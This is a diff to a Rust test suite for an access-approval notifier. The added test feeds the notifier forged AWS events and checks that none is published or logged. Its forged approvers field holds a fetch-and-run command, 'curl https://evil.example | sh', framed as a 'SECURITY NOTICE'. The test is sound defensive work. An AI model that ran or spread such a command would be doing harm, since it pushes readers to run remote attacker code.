@@ -858,6 +858,157 @@ async fn given_a_changegate_event_put_on_the_default_bus_by_someone_when_routed_
 }
 
 #[tokio::test]
+async fn given_forged_events_invoked_directly_on_notify_when_notifying_then_nothing_changegate_did_not_decide_is_published()
+ {
+    // Given the notification topic, alice's real grant (announced on
+    // changegate's bus), and a sandbox change template in the account
+    let s = Scene::new(&[]).await;
+    let notify_rule = s
+        .world
+        .capture_on(EVENT_BUS, "notify-rule", notify_pattern())
+        .await;
+    let topic = aws_sdk_sns::Client::new(&s.world.sdk)
+        .create_topic()
+        .name("changegate-notifications")
+        .send()
+        .await
+        .expect("topic")
+        .topic_arn()
+        .expect("arn")
+        .to_owned();
+    s.document(
+        "sandbox-access",
+        aws_sdk_ssm::types::DocumentType::ChangeTemplate,
+        change_template(&[("SandboxApproval", "mallory", "IamUser")]),
+    )
+    .await;
+    let (_, alice) = s.world.eligible_user("alice", PROD_ACCOUNT).await;
+    let (bob_arn, bob) = s.world.user("bob").await;
+    let id = s
+        .file(&alice, hour_request("alice"), Filing::default())
+        .await;
+    s.world.signal(&bob, &id, true).await;
+    let got = s.run("grant", &s.ssm().await);
+    assert_eq!(count(&got, "granted"), 1, "{got:?}");
+    let genuine = s.world.drain(&notify_rule).await;
+    assert_eq!(detail_types(&genuine), ["Access Granted"], "{genuine:?}");
+    let sandbox = s
+        .file(
+            &alice,
+            hour_request("alice"),
+            Filing {
+                template: "sandbox-access",
+                title: "unrelated sandbox work",
+                ..Filing::default()
+            },
+        )
+        .await;
+    let sandbox_events = s.ssm().await;
+    let unrelated = sandbox_events
+        .iter()
+        .find(|e| e["detail"]["change-request-id"] == sandbox.as_str())
+        .cloned()
+        .expect("the sandbox request's event");
+
+    // When someone who may invoke notify sends it events of their own: an
+    // Access Granted for a request changegate never decided, alice's for
+    // mallory or for another account, a refusal and a revocation changegate
+    // never made, a change request Systems Manager does not know, and the
+    // unrelated sandbox request
+    let g = &genuine[0];
+    let edit = |change: &dyn Fn(&mut Value)| {
+        let mut e = g.clone();
+        change(&mut e["detail"]);
+        e
+    };
+    let forged = vec![
+        edit(&|d| d["change-request-id"] = "f0000000-0000-0000-0000-00000000000f".into()),
+        edit(&|d| {
+            d["user"] = "mallory".into();
+            d["requester"] = "mallory".into();
+        }),
+        edit(&|d| d["account"] = "999988887777".into()),
+        json!({"source": "changegate", "detail-type": "Access Refused", "detail": {
+            "change-request-id": id, "user": "alice", "requester-arn": null,
+            "reason-code": "not-eligible", "reason": "call the helpdesk at https://evil.example"}}),
+        json!({"source": "changegate", "detail-type": "Access Revoked", "detail": {
+            "change-request-id": id, "user": "alice", "account": PROD_ACCOUNT, "role": "CM-Prd-role",
+            "role-arn": g["detail"]["role-arn"], "policy-name": g["detail"]["policy-name"],
+            "window": g["detail"]["window"], "revoked-at": "2026-12-01T10:00:00Z", "cause": "operator"}}),
+        change_request_event("f0000000-0000-0000-0000-00000000000f", "PendingApproval"),
+    ];
+    let mut env = s.env.clone();
+    env.push(("CHANGEGATE_TOPIC_ARN".into(), topic));
+    let run = invoke("notify", &forged, &env);
+    let notified = responses("notify", &run);
+
+    // Then none is published, each is logged as unverified and counted
+    let outcomes: Vec<&str> = notified.iter().map(outcome).collect();
+    assert_eq!(outcomes, ["unverified"; 6], "{notified:?}");
+    assert_eq!(
+        notified[0]["reason"], "there is no decision record for the request",
+        "{notified:?}"
+    );
+    assert_eq!(
+        notified[1]["reason"],
+        "the decision record names another user"
+    );
+    assert_eq!(
+        notified[2]["reason"],
+        "the decision record names another account"
+    );
+    assert_eq!(
+        notified[3]["reason"],
+        "the decision record is granted, not refused"
+    );
+    assert_eq!(
+        notified[4]["reason"],
+        "the decision record is granted, not revoked"
+    );
+    assert_eq!(
+        notified[5]["reason"],
+        "Systems Manager has no such change request"
+    );
+    // (the binary's output, its logs and EMF metrics, is the harness's stderr)
+    let logs = run.stderr();
+    let counted = logs
+        .lines()
+        .filter(|l| l.contains("\"NotifyUnverified\""))
+        .count();
+    assert_eq!(counted, 6, "one data point each: {logs}");
+    assert!(
+        !logs.contains("evil.example"),
+        "the forged text is not logged: {logs}"
+    );
+
+    // When the unrelated request's own event, as Change Manager sent it, and
+    // alice's real grant with forged approvers and reason reach notify
+    let approvers = edit(&|d| {
+        d["approvers"] = json!(["SECURITY NOTICE: run curl https://evil.example | sh"]);
+        d["request-reason"] = "see https://evil.example".into();
+    });
+    let notified = responses("notify", &invoke("notify", &[unrelated, approvers], &env));
+
+    // Then the unrelated request is not announced, and alice's grant is
+    // announced with the approvers of its record
+    assert_eq!(outcome(&notified[0]), "skipped", "{notified:?}");
+    assert_eq!(
+        notified[0]["reason"],
+        "the change request was not filed with this deployment's change template"
+    );
+    assert_eq!(notified[1]["kind"], "access-granted", "{notified:?}");
+    let published = s.world.aws.sns_published();
+    assert_eq!(published.len(), 1, "{published:?}");
+    let message = published[0]["Message"].as_str().unwrap_or_default();
+    assert!(
+        message.contains(&bob_arn)
+            && !message.contains("evil.example")
+            && !message.contains("sandbox"),
+        "{message}"
+    );
+}
+
+#[tokio::test]
 async fn given_a_hostile_title_and_approver_when_notify_publishes_then_the_slack_card_escapes_them_as_slack_reads_them()
  {
     // Given the notification topic, and alice files a request titled to ping
@@ -918,8 +1069,10 @@ async fn given_a_hostile_title_and_approver_when_notify_publishes_then_the_slack
         ),
         "{description}"
     );
+    // (the approvers are Systems Manager's, never the event's)
     assert!(
-        description.contains("&lt;!here&gt;&amp;&lt;@U024BE7LH&gt;"),
+        description.contains(&format!("*Approvers:* {APPROVERS_GROUP}"))
+            && !description.contains("U024BE7LH"),
         "{description}"
     );
     let mut texts = vec![
